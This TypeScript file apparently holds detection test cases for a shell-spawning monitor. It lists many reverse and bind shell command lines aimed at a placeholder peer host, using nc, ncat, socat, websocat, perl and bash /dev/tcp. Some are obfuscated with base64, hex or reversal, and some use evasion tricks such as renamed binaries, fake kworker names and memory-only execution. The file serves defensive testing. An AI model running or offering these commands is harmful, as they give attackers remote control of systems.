// Tools that run a shell, programs of any name, and texts that hide one.
import { attack, becomes, PEER, spawns, typed, type Attack } from './attack.js';

export const TOOLS: readonly Attack[] = [
  attack('nc.traditional -e', 'execve', (host) => {
    const nc = host
      .login()
      .run(['nc', '-e', '/bin/sh', PEER, '4444'], { exe: '/usr/bin/nc.traditional' });
    becomes(nc, ['/bin/sh']);
  }),
  attack('telnetd of busybox, a bind shell', 'execve', (host) => {
    const telnetd = host
      .running('/usr/sbin/cron')
      .run(['busybox', 'telnetd', '-p', '9999', '-l', '/bin/sh'], { exe: '/bin/busybox' })
      .listen(9999)
      .accept(PEER);
    typed(telnetd.fork().dup().exec(['/bin/sh']));
  }),
  attack('websocat', 'execve', (host) => {
    const argv = ['websocat', '-E', `wss://${PEER}/x`, 'cmd:bash -i'];
    spawns(host.login().run(argv), ['sh', '-c', 'bash -i']);
  }),
  attack('websocat without a shell in between', 'execve', (host) => {
    const argv = ['websocat', `ws://${PEER}:8080`, 'exec:/bin/bash', '--binary'];
    spawns(host.login().run(argv), ['/bin/bash']);
  }),
  attack('a program of Go by its service', 'network', (host) => {
    const agent = host.running('/usr/lib/systemd/systemd').run(['/opt/app/agent']);
    spawns(agent, ['/bin/sh']);
  }),
  attack('nc -c', 'execve', (host) => {
    const nc = host
      .login()
      .run(['nc', '-c', 'bash', PEER, '4444'], { exe: '/usr/bin/nc.traditional' });
    becomes(nc, ['/bin/sh', '-c', 'bash']);
  }),
  attack('nc -lvp -e, a bind shell', 'execve', (host) => {
    const nc = host
      .login()
      .run(['nc', '-lvp', '31337', '-e', '/bin/bash'], { exe: '/usr/bin/nc.traditional' });
    typed(nc.listen(31_337).accept('198.51.100.9').dup().exec(['/bin/bash']));
  }),
  attack('ncat --exec over UDP', 'execve', (host) => {
    spawns(host.login().run(['ncat', '--udp', PEER, '53', '--exec', '/bin/bash -i']), [
      '/bin/bash',
      '-i',
    ]);
  }),
  attack('ncat --sh-exec with TLS', 'execve', (host) => {
    const ncat = host.login().run(['ncat', '--ssl', '--sh-exec', 'sh -i', PEER, '443']);
    spawns(ncat, ['/bin/sh', '-c', 'sh -i']);
  }),
  attack('ncat -lk, a bind shell', 'execve', (host) => {
    const ncat = host
      .login()
      .run(['ncat', '-lk', '-p', '5555', '-e', '/bin/zsh'])
      .listen(5555)
      .accept(PEER);
    typed(ncat.fork().exec(['/bin/zsh']));
  }),
  attack('busybox nc -e', 'execve', (host) => {
    const nc = host
      .login()
      .run(['busybox', 'nc', PEER, '9001', '-e', 'sh'], { exe: '/bin/busybox' });
    typed(nc.connect(PEER, 9001).exec(['sh'], { exe: '/bin/busybox' }));
  }),
  attack('nc under another name', 'execve', (host) => {
    const nc = host.login().run(['/tmp/.sys', PEER, '443', '-e', '/bin/sh'], { exe: '/tmp/.sys' });
    becomes(nc, ['/bin/sh']);
  }),
  attack('rustcat', 'execve', (host) => {
    spawns(
      host
        .login()
        .run(['rcat', 'connect', '-s', 'bash', PEER, '9001'], { exe: '/usr/local/bin/rcat' }),
      ['bash'],
    );
  }),
  attack('socat with a terminal', 'execve', (host) => {
    const socat = host
      .login()
      .run(['socat', `TCP4:${PEER}:9001`, "EXEC:'/bin/bash -li',pty,stderr,setsid,sigint,sane"]);
    spawns(socat, ['/bin/bash', '-li']);
  }),
  attack('socat the other way round, with TLS', 'execve', (host) => {
    spawns(host.login().run(['socat', 'exec:sh,pty,stderr', `OPENSSL:${PEER}:443,verify=0`]), [
      'sh',
    ]);
  }),
  attack('socat that listens', 'execve', (host) => {
    const socat = host
      .login()
      .run(['socat', 'TCP-LISTEN:7777,reuseaddr,fork', 'SYSTEM:/bin/sh'])
      .listen(7777)
      .accept(PEER);
    typed(socat.fork().fork().exec(['sh', '-c', '/bin/sh']));
  }),
  attack('socat over UDP with system', 'execve', (host) => {
    spawns(host.login().run(['socat', `udp4-connect:${PEER}:53`, 'system:"bash -i"']), [
      'sh',
      '-c',
      'bash -i',
    ]);
  }),
  attack('socat under another name', 'execve', (host) => {
    spawns(
      host
        .login()
        .run(['/dev/shm/s', `tcp:${PEER}:1`, 'exec:"bash -li",pty'], { exe: '/dev/shm/s' }),
      ['bash', '-li'],
    );
  }),
  attack('xterm on a remote display', 'execve', (host) => {
    host
      .login()
      .run(['xterm', '-display', `${PEER}:1`])
      .connect(PEER, 6001)
      .run(['bash']);
  }),
  attack('ssh that lets back in', 'execve', (host) => {
    host
      .running('/usr/sbin/cron')
      .run([
        'ssh',
        '-fNT',
        '-R',
        '2222:localhost:22',
        '-o',
        'StrictHostKeyChecking=no',
        `t@${PEER}`,
      ]);
  }),
  attack('script in a shell that came by the network', 'execve', (host) => {
    host.running('/usr/bin/dash').run(['script', '-qc', '/bin/bash', '/dev/null']).run(['bash']);
  }),
  attack('a terminal by Python', 'execve', (host) => {
    host
      .running('/usr/bin/dash')
      .run(['python3', '-c', 'import pty; pty.spawn("/bin/bash")'])
      .run(['/bin/bash']);
  }),
  attack('a terminal by expect', 'execve', (host) => {
    host.running('/usr/bin/dash').run(['expect', '-c', 'spawn /bin/sh; interact']).run(['/bin/sh']);
  }),
];

export const PROGRAMS: readonly Attack[] = [
  attack('a compiled payload in /tmp', 'execve', (host) => {
    becomes(host.login().run(['/tmp/update'], { exe: '/tmp/update' }), ['/bin/sh']);
  }),
  attack('a compiled payload by its service', 'network', (host) => {
    becomes(host.running('/usr/lib/systemd/systemd').run(['/usr/local/bin/telemetryd']), [
      '/bin/bash',
      '-i',
    ]);
  }),
  attack('a compiled bind shell that does not ask who calls', 'network', (host) => {
    const program = host.login().run(['/opt/b'], { exe: '/opt/b' }).listen(4444).accept();
    typed(program.dup().exec(['/bin/sh']));
  }),
  attack('a bind shell that forks for each caller', 'network', (host) => {
    const program = host.login().run(['/opt/b2'], { exe: '/opt/b2' }).listen(4444).accept(PEER);
    typed(program.fork().dup().exec(['/bin/bash', '-i']));
  }),
  attack('an implant that opens a shell minutes later', 'network', (host) => {
    const implant = host
      .login()
      .run(['/home/dev/.local/share/agent'], { exe: '/home/dev/.local/share/agent' });
    implant.connect(PEER, 443).wait(200_000);
    typed(implant.fork().exec(['/bin/bash', '--norc', '--noprofile']));
  }),
  attack('a program that exists in memory only', 'execve', (host) => {
    becomes(host.login().run(['/proc/self/fd/3'], { exe: '/memfd:x (deleted)', comm: '3' }), [
      '/bin/sh',
      '-i',
    ]);
  }),
  attack('a payload in /dev/shm that calls itself a kernel thread', 'execve', (host) => {
    becomes(host.login().run(['[kworker/0:1]'], { exe: '/dev/shm/.k', comm: 'kworker/0:1' }), [
      'sh',
    ]);
  }),
  attack('a payload whose shell is a copy under another name', 'network', (host) => {
    const implant = host.login().run(['/opt/agent'], { exe: '/opt/agent' }).connect(PEER, 443);
    typed(implant.dup().exec(['/var/tmp/x/bash', '-i'], { exe: '/var/tmp/x/bash', comm: 'nginx' }));
  }),
  attack('a payload that starts fish', 'network', (host) => {
    spawns(host.login().run(['/opt/agent'], { exe: '/opt/agent' }), ['/usr/bin/fish']);
  }),
  attack('a payload over UDP that starts tcsh', 'network', (host) => {
    const implant = host
      .login()
      .run(['/opt/agent'], { exe: '/opt/agent' })
      .connect(PEER, 53, { udp: true });
    typed(implant.fork().exec(['/bin/tcsh', '-i']));
  }),
  attack('redis that starts a shell from a module', 'network', (host) => {
    spawns(host.running('/usr/bin/redis-server'), ['/bin/sh']);
  }),
  attack('postgres that runs a program', 'execve', (host) => {
    const text = `perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"${PEER}:80");STDIN->fdopen($c,r);system$_ while<>;'`;
    const shell = host.running('/usr/lib/postgresql/15/bin/postgres').run(['sh', '-c', text]);
    typed(
      shell
        .run([
          'perl',
          '-MIO',
          '-e',
          `$c=new IO::Socket::INET(PeerAddr,"${PEER}:80");STDIN->fdopen($c,r);system$_ while<>;`,
        ])
        .connect(PEER, 80),
    );
  }),
];

const base64 = (text: string): string => Buffer.from(text).toString('base64');
export const ENCODED: readonly Attack[] = [
  ...['', ' ', '\n\n'].map((lead, index) =>
    attack(`base64 with ${index} bytes before`, 'execve', (host) => {
      const text = `echo ${base64(`${lead}/usr/bin/env bash >/dev/tcp/${PEER}/9001 0>&1`)} | base64 -d | bash`;
      const shell = host.running('/usr/lib/jvm/java-17/bin/java').run(['bash', '-c', text]);
      shell.run(['base64', '-d']);
      shell.run(['bash']);
    }),
  ),
  attack('braces instead of blanks', 'execve', (host) => {
    const text = `{echo,${base64(`bash -i >& /dev/tcp/${PEER}/9001 0>&1`)}}|{base64,-d}|{bash,-i}`;
    host.running('/usr/bin/java').run(['bash', '-c', text]);
  }),
  attack('hexadecimal', 'execve', (host) => {
    const hex = Buffer.from(`bash -i >& /dev/tcp/${PEER}/9001 0>&1`).toString('hex');
    host.running('/usr/sbin/cron').run(['/bin/sh', '-c', `echo ${hex} | xxd -r -p | bash`]);
  }),
  attack('backwards', 'execve', (host) => {
    const text = Buffer.from(`bash -i >& /dev/tcp/${PEER}/9001 0>&1`).reverse().toString();
    host.running('/usr/sbin/cron').run(['/bin/sh', '-c', `echo '${text}' | rev | bash`]);
  }),
  attack('python that decodes itself', 'execve', (host) => {
    const code = `exec(__import__('base64').b64decode('${base64(`s=__import__("os")`)}'))`;
    spawns(host.login().run(['python3', '-c', code]), ['/bin/sh']);
  }),
  attack('perl that unpacks itself', 'execve', (host) => {
    host
      .login()
      .run(['perl', '-e', `eval(pack("H*","${Buffer.from('use IO;').toString('hex')}"))`]);
  }),
];
